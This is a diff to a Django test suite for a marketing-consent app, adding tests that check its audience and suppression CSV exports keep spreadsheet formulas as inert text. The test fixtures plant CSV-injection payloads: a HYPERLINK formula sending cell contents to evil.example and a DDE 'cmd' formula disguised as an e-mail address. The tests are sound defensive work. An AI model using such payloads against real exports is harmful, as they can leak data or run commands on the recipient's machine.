@@ -32,12 +32,14 @@ PURPOSES = MarketingPurpose.values
 ADMIN = "/admin/consent/marketingpreference/"
 
 
-def registrant(deliver, email: str, ticked=("email",), confirm=True, browser=None) -> Client:
+def registrant(
+    deliver, email: str, ticked=("email",), confirm=True, browser=None, name=""
+) -> Client:
     """Someone who registered (ticking `ticked`) and, unless told not to, confirmed."""
     browser = browser or Client()
     extra = {f"marketing_{purpose}": "on" for purpose in ticked}
     data = {
-        "name": email.split("@")[0].title(),
+        "name": name or email.split("@")[0].title(),
         "email": email,
         "country": "FR",
         "date_of_birth": years_ago(30).isoformat(),
@@ -362,6 +364,62 @@ def test_suppression_csv_holds_exactly_the_opted_out_addresses_and_hashes(
     command = io.StringIO()
     call_command("export_suppression_list", stdout=command)
     assert {row["email_hash"] for row in _csv(command.getvalue())} == set(by_hash)
+
+
+# What registrants type, planted for whoever opens the lists in a spreadsheet: a
+# full-width equals sign (read as "=" by some spreadsheets) and an address whose local
+# part is a formula (every character of it is allowed in an address).
+PLANTED_NAME = '\uff1dHYPERLINK("https://evil.example/?"&A1,"click")'
+PLANTED_EMAIL = "=cmd|'calc'!a0@example.org"
+
+
+@pytest.fixture
+def planted(demo_policy, deliver):
+    """Ann, in the e-mail audience under a formula for a name; a formula address that
+    allows only phone calls (so it is in the suppression list and the phone audience)."""
+    registrant(deliver, "ann@example.org", ticked=("email",), name=PLANTED_NAME)
+    out = registrant(deliver, PLANTED_EMAIL, ticked=PURPOSES, name="-1+1")
+    with deliver():
+        Client().post("/preferences/", {"email": PLANTED_EMAIL})
+    out.post(link_in_mail(mail.outbox[-1], "/preferences/"), {"phone": "on"})
+
+
+def _planted_cells(audience_email: str, audience_phone: str, suppression: str) -> tuple:
+    (ann,) = _csv(audience_email)
+    (phone,) = _csv(audience_phone)
+    (suppressed,) = _csv(suppression)
+    return ann["name"], phone["email"], phone["name"], suppressed["email"]
+
+
+PLANTED_AS_TEXT = (f"'{PLANTED_NAME}", f"'{PLANTED_EMAIL}", "'-1+1", f"'{PLANTED_EMAIL}")
+
+
+def test_marketing_exports_in_the_admin_keep_planted_formulas_as_text(planted, marketing_client):
+    def export(action: str) -> bytes:
+        return marketing_client.post(ADMIN, {"action": action, "_selected_action": ["1"]}).content
+
+    cells = _planted_cells(
+        export("export_audience_email"),
+        export("export_audience_phone"),
+        export("export_suppression"),
+    )
+
+    assert cells == PLANTED_AS_TEXT
+
+
+def test_marketing_export_commands_keep_planted_formulas_as_text(planted):
+    def run(*args: str) -> str:
+        out = io.StringIO()
+        call_command(*args, stdout=out)
+        return out.getvalue()
+
+    cells = _planted_cells(
+        run("export_audience", "email"),
+        run("export_audience", "phone"),
+        run("export_suppression_list"),
+    )
+
+    assert cells == PLANTED_AS_TEXT
 
 
 def test_unticking_everything_in_the_centre_is_saved(demo_policy, deliver):
